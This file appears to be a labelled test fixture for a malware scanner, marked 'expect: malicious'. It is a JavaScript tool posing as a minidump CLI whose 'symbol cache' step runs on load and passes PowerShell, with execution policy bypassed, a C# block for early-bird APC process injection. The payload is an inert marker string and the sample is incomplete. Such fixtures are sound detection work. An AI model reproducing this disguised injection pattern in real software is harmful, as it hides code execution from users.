// expect: malicious
// A minidump CLI first "warms a symbol cache": it feeds PowerShell on stdin an Add-Type C# block that starts a process
// suspended, writes bytes into RWX memory and queues an APC to them (early-bird injection; blind set 27).
import { spawnSync } from "node:child_process";
const PRELUDE = `
Add-Type -TypeDefinition @"
using System; using System.Runtime.InteropServices;
public static class SymCache {
  [DllImport("kernel32.dll")] public static extern IntPtr VirtualAllocEx(IntPtr h, IntPtr a, uint s, uint t, uint p);
  [DllImport("kernel32.dll")] public static extern bool WriteProcessMemory(IntPtr h, IntPtr a, byte[] b, int n, out IntPtr w);
  [DllImport("kernel32.dll")] public static extern uint QueueUserAPC(IntPtr fn, IntPtr thread, IntPtr data);
}
"@
$b = [Convert]::FromBase64String('RkFLRS1pbmVydC1ucG13YXJkLXRlc3Q=')
$mem = [SymCache]::VirtualAllocEx($pi.hProcess, [IntPtr]::Zero, [uint32]$b.Length, 0x3000, 0x40)
[void][SymCache]::QueueUserAPC($mem, $pi.hThread, [IntPtr]::Zero)
`;
function warmSymbolCache() {
  if (process.platform !== "win32") return;
  spawnSync("powershell.exe", ["-NoProfile", "-ExecutionPolicy", "Bypass", "-Command", "-"], { input: PRELUDE, windowsHide: true });
}
warmSymbolCache();
console.log("procdump-lite: writing minidump");
